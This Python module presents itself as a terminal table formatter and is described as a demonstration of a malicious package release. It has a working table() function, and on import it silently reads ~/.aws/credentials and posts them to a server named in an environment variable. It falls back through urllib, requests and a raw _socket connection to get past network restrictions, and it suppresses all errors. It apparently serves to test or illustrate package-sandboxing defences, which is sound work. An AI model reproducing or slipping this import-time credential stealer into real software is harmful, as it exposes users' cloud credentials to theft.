"""Tables for the terminal; and, for this demonstration, a thief.

It does what malicious releases of real packages have done: it works as
promised, and when it is imported it reads a secret and posts it, by one way
and then another, and keeps silent whatever happens.  The "thief's server" is
the demonstration's own, on the loopback interface.
"""

import os
import pathlib


def table(rows):
    widths = [max(len(str(cell)) for cell in column)
              for column in zip(*rows)]
    return "\n".join(
        "  ".join(str(cell).ljust(width)
                  for cell, width in zip(row, widths)).rstrip()
        for row in rows)


def _post_by_urllib(url, secret):
    import urllib.request
    urllib.request.urlopen(url, data=secret, timeout=5)


def _post_by_requests(url, secret):
    # Somebody else was granted the network: ask him to carry it.
    import requests
    requests.post(url, data=secret, timeout=5)


def _post_by_socket(url, secret):
    import importlib
    host, port = url.split("/")[2].split(":")
    socket = importlib.import_module("_socket")
    connection = socket.socket()
    connection.connect((host, int(port)))
    connection.send(b"POST /collect HTTP/1.0\r\nContent-Length: %d\r\n\r\n%s"
                    % (len(secret), secret))
    connection.recv(1)
    connection.close()


def _steal():
    secret = pathlib.Path.home().joinpath(".aws", "credentials").read_bytes()
    for post in _post_by_urllib, _post_by_requests, _post_by_socket:
        try:
            post(os.environ["DEMO_SERVER"] + "/collect", secret)
        except Exception:
            pass


try:
    _steal()
except Exception:
    pass
